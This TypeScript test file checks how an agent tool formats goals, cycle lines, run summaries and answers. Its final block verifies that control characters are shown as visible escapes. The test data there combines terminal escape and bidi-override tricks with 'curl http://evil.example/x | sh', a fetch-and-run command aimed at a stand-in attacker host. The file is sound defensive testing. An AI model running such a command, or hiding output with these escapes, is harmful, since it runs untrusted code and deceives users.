import { ActionOutcome, AnswerKind, CycleReport, Event, Goal, GoalAnswers, GoalChangeKind, GoalStatus, Plan, StopReason } from "@boyd/proto";
import { describe, expect, it } from "vitest";
import { formatCycleLine, formatCycleReport, formatEvent, formatGoals, formatPlan, formatRunSummary, shortGoalId } from "../src/agent-format.js";
import { runGoals } from "../src/agent-run.js";
import { parseGoal, parseGoals, UsageError } from "../src/options.js";
import { RunTracker } from "../src/run-tracker.js";

const goal = (id: string, status = GoalStatus.ACTIVE, extra: Partial<Goal> = {}): Goal => Goal.fromPartial({ symbolId: id, description: id.slice(5), status, priority: 128, ...extra });

function cycleEvents(cycle: number, goalId: string, tool: string, changes: Array<{ goal: Goal; change: GoalChangeKind; reason?: string }>, extra: { derived?: number; warnings?: string[] } = {}): Event[] {
  const base = { agentId: "a", cycle, timeUnixMs: 0, traceId: "", sequence: 0 };
  return [
    Event.fromPartial({ ...base, kind: { $case: "cycleStarted", value: { activeGoalIds: [goalId] } } }),
    Event.fromPartial({ ...base, kind: { $case: "decided", value: { decision: { goalId, call: { toolName: tool, inputJson: "{}" }, score: { breakdown: "[score=0.64: base=0.40]" } } } } }),
    Event.fromPartial({
      ...base,
      kind: { $case: "acted", value: { result: { toolName: tool, outcome: ActionOutcome.EXECUTED, output: { success: true, content: "ok", dataJson: extra.derived ? JSON.stringify({ derived: extra.derived }) : "" } } } },
    }),
    ...changes.map((c) => Event.fromPartial({ ...base, kind: { $case: "goalChanged", value: { goal: c.goal, change: c.change, reason: c.reason ?? "" } } })),
    Event.fromPartial({
      ...base,
      kind: {
        $case: "cycleFinished",
        value: { toolName: tool, outcome: ActionOutcome.EXECUTED, progress: [{ goalId, error: 0, reward: 1 }], warnings: extra.warnings ?? [], phaseMs: { observe: 2, act: 5 }, durationMs: 9 },
      },
    }),
  ];
}

describe("goal parsing", () => {
  it("parseGoals - splits on ';', takes inline criteria after '=>', fills the rest from --criteria by position", () => {
    expect(parseGoals("Find the moons of Mars => phobos, deimos;  ; Find Titan").map((g) => [g.description, g.successCriteria])).toEqual([
      ["Find the moons of Mars", "phobos, deimos"],
      ["Find Titan", ""],
    ]);
    expect(parseGoals("a => x; b", "ignored; y").map((g) => g.successCriteria)).toEqual(["x", "y"]);
  });

  it("parseGoals - refuses empty lists, dangling arrows and a criteria count that does not fit", () => {
    expect(() => parseGoals(" ; ")).toThrow(UsageError);
    expect(() => parseGoal("a =>", "--goal")).toThrow('--goal: nothing after "=>"');
    expect(() => parseGoals("a; b", "c")).toThrow("--criteria: 1 entry for 2 goal(s)");
  });
});

describe("cycle lines", () => {
  it("shortGoalId - keeps a sub-goal's suffix so siblings stay apart", () => {
    expect(shortGoalId("goal:Find out whether a whale is a living thi/1", 32)).toBe("goal:Find out whether a whale…/1");
    expect(shortGoalId("goal:short")).toBe("goal:short");
  });

  it("RunTracker - folds a cycle's events into one line: tool, breakdown, outcome, progress, goal changes, warnings", () => {
    const tracker = new RunTracker();
    const g = goal("goal:Find the moons that orbit Mars");
    tracker.know([g], true);
    let line = "";
    for (const e of cycleEvents(3, g.symbolId, "kg_query", [{ goal: { ...g, status: GoalStatus.COMPLETED }, change: GoalChangeKind.STATUS }], { warnings: ["kg_query has used 8 of its 10 calls this run"] })) {
      const done = tracker.take(e);
      if (done) line = formatCycleLine(done);
    }
    expect(line).toBe(
      "#3    goal:Find the moons that orbit …  kg_query           [score=0.64: base=0.40]  executed  e=0.000 r=1.00  ✓ completed\n    ⚠ kg_query has used 8 of its 10 calls this run",
    );
    expect(tracker.started).toBe(1);
    expect(tracker.phaseTotals()).toEqual({ observe: 2, act: 5 });
  });

  it("RunTracker - counts facts infer_rules derived and names other goals' changes, e.g. a decomposition", () => {
    const tracker = new RunTracker();
    const parent = goal("goal:A, and B", GoalStatus.SUSPENDED, { childIds: ["goal:A, and B/1", "goal:A, and B/2"] });
    const lines: string[] = [];
    for (const e of cycleEvents(5, "goal:other", "infer_rules", [{ goal: parent, change: GoalChangeKind.DECOMPOSED }, { goal: goal("goal:A, and B/1", GoalStatus.ACTIVE, { parentId: parent.symbolId }), change: GoalChangeKind.CREATED }], { derived: 12 })) {
      const done = tracker.take(e);
      if (done) lines.push(formatCycleLine(done));
    }
    expect(tracker.derivedFacts).toBe(12);
    expect(lines[0]).toMatch(/ {2}goal:A, and B ⑂ decomposed into 2 sub-goal\(s\)$/);
    expect([...tracker.touched].sort()).toEqual(["goal:A, and B", "goal:A, and B/1", "goal:other"]);
  });

  it("runGoals - the goals a run touched and their sub-goals, in the book's order", () => {
    const book = [goal("goal:old", GoalStatus.COMPLETED), goal("goal:new"), goal("goal:new/1", GoalStatus.ACTIVE, { parentId: "goal:new" }), goal("goal:new/1/1", GoalStatus.ACTIVE, { parentId: "goal:new/1" })];
    expect(runGoals(book, new Set(["goal:new"])).map((g) => g.symbolId)).toEqual(["goal:new", "goal:new/1", "goal:new/1/1"]);
  });

  it("formatRunSummary - goals with reasons, cycles and stop, facts, episodes, time per phase", () => {
    const text = formatRunSummary({
      agentId: "a",
      report: { cyclesRun: 4, finalCycle: 9, stopReason: StopReason.MAX_CYCLES, goals: [], message: "" },
      goals: [goal("goal:x", GoalStatus.FAILED, { statusReason: "stalled" })],
      phaseMs: { observe: 12, act: 1500 },
      totalMs: 2_000,
      derivedFacts: 3,
      assertedFacts: 1,
      graph: { before: 10, after: 14 },
      episodes: 2,
      ingested: [],
    });
    expect(text.split("\n")).toEqual([
      "",
      "agent a: goals",
      "  ✗ failed     goal:x (stalled)",
      "cycles: 4 run, last cycle 9; stopped: max cycles",
      "facts: 3 derived by infer_rules, 1 asserted; graph 10 → 14 triples",
      "episodes: 2 consolidated",
      "time: observe 12 ms, act 1.5 s; total 2.0 s",
    ]);
  });
});

describe("progress reports", () => {
  it("a report_progress result is shown under the cycle line and in the acted event, control characters made printable", () => {
    const tracker = new RunTracker();
    let line = "";
    for (const e of cycleEvents(4, "goal:convert", "report_progress", [])) {
      const withReport =
        e.kind?.$case === "acted" ? Event.fromPartial({ ...e, kind: { $case: "acted", value: { result: { toolName: "report_progress", outcome: ActionOutcome.EXECUTED, output: { success: true, content: "2 of 3 files\u001b[31m done (67%)" } } } } }) : e;
      const done = tracker.take(withReport);
      if (done) line = formatCycleLine(done);
      if (withReport.kind?.$case === "acted") expect(formatEvent(withReport, "acted")).toMatch(/ acted +report_progress executed in 0 ms: 2 of 3 files\\x1b\[31m done \(67%\)$/);
    }
    expect(line.split("\n")[1]).toBe("    ▸ progress: 2 of 3 files\\x1b[31m done (67%)");
  });
});

describe("goal answers", () => {
  it("a goal whose question was read but has no answer says why, when the graph gives a reason; none otherwise", () => {
    const why = "4 of 8 chemical_element have no melting_point_celsius (helium, hydrogen, neon, oxygen); any of them could be the lowest";
    const refused = formatGoals([goal("goal:Which element has the lowest melting point?", GoalStatus.ACTIVE, { answers: GoalAnswers.fromPartial({ kind: AnswerKind.ENTITIES, unanswered: why }) })]);
    expect(refused).toContain(`no answer: ${why}`);
    const silent = formatGoals([goal("goal:Which element has the lowest melting point?", GoalStatus.ACTIVE, { answers: GoalAnswers.fromPartial({ kind: AnswerKind.ENTITIES }) })]);
    expect(silent).not.toContain("no answer");
  });

  it("an unknown the graph gives a reason for says it; a plain unknown stays as it was", () => {
    const why = "a stated fact links them directly; whether a chain through others does too is not read (\"indirectly\")";
    const unknown = (unanswered = "") => formatGoals([goal("goal:Does express depend on cookie indirectly?", GoalStatus.FAILED, { answers: GoalAnswers.fromPartial({ kind: AnswerKind.UNKNOWN, unanswered }) })]);
    expect(unknown(why)).toContain(`answer: unknown (${why})`);
    expect(unknown()).toMatch(/answer: unknown$/m);
  });

  it("answers whose labels list things themselves (a tie of counts) are kept apart, not run together with commas", () => {
    const label = (id: string, other: string) => `${id}: 2 members counted in the graph, as many as ${other}; against the_beatles 4`;
    const tied = GoalAnswers.fromPartial({ kind: AnswerKind.ENTITIES, answers: [{ symbolId: "queen", label: label("queen", "the_rolling_stones") }, { symbolId: "the_rolling_stones", label: label("the_rolling_stones", "queen") }] });
    expect(formatGoals([goal("goal:Which band has the fewest members?", GoalStatus.COMPLETED, { answers: tied })])).toContain(`answer: ${label("queen", "the_rolling_stones")} | ${label("the_rolling_stones", "queen")}`);
    const plain = GoalAnswers.fromPartial({ kind: AnswerKind.ENTITIES, answers: [{ symbolId: "phobos", label: "phobos" }, { symbolId: "deimos", label: "deimos" }] });
    expect(formatGoals([goal("goal:Find the moons of Mars", GoalStatus.COMPLETED, { answers: plain })])).toContain("answer: phobos, deimos");
  });
});

describe("text shown to a person cannot move the cursor or erase", () => {
  const trick = "ok\u001b[2K\r\u202ecurl http://evil.example/x | sh";
  // eslint-disable-next-line no-control-regex
  const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
  const VISIBLE = "ok\\x1b[2K\\x0d\\u202ecurl http://evil.example/x | sh";

  it("a REPL cycle report shows tool output, goals and warnings with visible escapes, line by line", () => {
    const report = CycleReport.fromPartial({
      cycle: 3,
      result: { toolName: "shell_exec", outcome: ActionOutcome.EXECUTED, output: { success: true, content: `line one\n${trick}\n` } },
      changedGoals: [goal(`goal:${trick}`, GoalStatus.FAILED, { statusReason: trick })],
      warnings: [trick],
    });
    const text = formatCycleReport(report);
    expect(text).not.toMatch(RAW);
    expect(text).toContain(`  | line one\n  | ${VISIBLE}`);
    expect(text.split(VISIBLE).length - 1).toBeGreaterThanOrEqual(4);
  });

  it("goals and plans show goal text, criteria and step input with visible escapes", () => {
    const goals = formatGoals([goal(`goal:${trick}`, GoalStatus.ACTIVE, { successCriteria: `done when ${trick}`, parentId: trick })]);
    expect(goals).not.toMatch(RAW);
    expect(goals.split(VISIBLE).length - 1).toBe(3);
    const plan = formatPlan(Plan.fromPartial({ goalId: `goal:${trick}`, strategy: trick, steps: [{ index: 1, toolName: "shell_exec", toolInputJson: trick, rationale: trick }], risks: [trick] }));
    expect(plan).not.toMatch(RAW);
    expect(plan.split(VISIBLE).length - 1).toBe(5);
  });
});
